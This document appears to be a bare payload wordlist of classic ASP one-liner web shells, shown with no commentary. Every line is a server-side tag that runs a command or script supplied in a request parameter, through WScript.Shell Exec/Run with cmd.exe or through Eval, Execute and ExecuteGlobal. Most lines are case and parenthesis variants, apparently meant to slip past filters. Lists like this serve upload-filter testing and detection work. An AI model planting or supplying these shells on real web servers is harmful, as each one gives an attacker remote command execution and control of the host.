<%CreateObject("WScript.Shell").Exec(Request("c"))%>
<%CreateObject("WScript.Shell").exec(Request("c"))%>
<%CreateObject("WScript.Shell").Run(Request("c"))%>
<%Set s = Server.CreateObject("WSCRIPT.SHELL")%>
<%Set s = Server.CreateObject("wscript.shell")%>
<%Set a = Server.CreateObject("Shell.Application")%>
<%Set a = Server.CreateObject("shell.application")%>
<%Set x = s.exec("cmd.exe /c "&Request("c"))%>
<%Set x = s.Exec("cmd /c "&Request("c"))%>
<%s.Run "cmd.exe /c "&request("c")%>
<%s.Run "cmd.exe /c " & Request("c")%>
<%Execute(Request.Form("x"))%>
<%execute(request.form("x"))%>
<%eval request("x")%>
<%eval(request("x"))%>
<%eval Request("x")%>
<%eval(Request("x"))%>
<%eval REQUEST("x")%>
<%eval(REQUEST("x"))%>
<%Eval request("x")%>
<%Eval(request("x"))%>
<%Eval Request("x")%>
<%Eval(Request("x"))%>
<%Eval REQUEST("x")%>
<%Eval(REQUEST("x"))%>
<%EVAL request("x")%>
<%EVAL(request("x"))%>
<%EVAL Request("x")%>
<%EVAL(Request("x"))%>
<%EVAL REQUEST("x")%>
<%EVAL(REQUEST("x"))%>
<%execute request("x")%>
<%execute(request("x"))%>
<%execute Request("x")%>
<%execute(Request("x"))%>
<%execute REQUEST("x")%>
<%execute(REQUEST("x"))%>
<%Execute request("x")%>
<%Execute(request("x"))%>
<%Execute Request("x")%>
<%Execute(Request("x"))%>
<%Execute REQUEST("x")%>
<%Execute(REQUEST("x"))%>
<%EXECUTE request("x")%>
<%EXECUTE(request("x"))%>
<%EXECUTE Request("x")%>
<%EXECUTE(Request("x"))%>
<%EXECUTE REQUEST("x")%>
<%EXECUTE(REQUEST("x"))%>
<%executeglobal request("x")%>
<%executeglobal(request("x"))%>
<%executeglobal Request("x")%>
<%executeglobal(Request("x"))%>
<%executeglobal REQUEST("x")%>
<%executeglobal(REQUEST("x"))%>
<%ExecuteGlobal request("x")%>
<%ExecuteGlobal(request("x"))%>
<%ExecuteGlobal Request("x")%>
<%ExecuteGlobal(Request("x"))%>
<%ExecuteGlobal REQUEST("x")%>
<%ExecuteGlobal(REQUEST("x"))%>
<%EXECUTEGLOBAL request("x")%>
<%EXECUTEGLOBAL(request("x"))%>
<%EXECUTEGLOBAL Request("x")%>
<%EXECUTEGLOBAL(Request("x"))%>
<%EXECUTEGLOBAL REQUEST("x")%>
<%EXECUTEGLOBAL(REQUEST("x"))%>
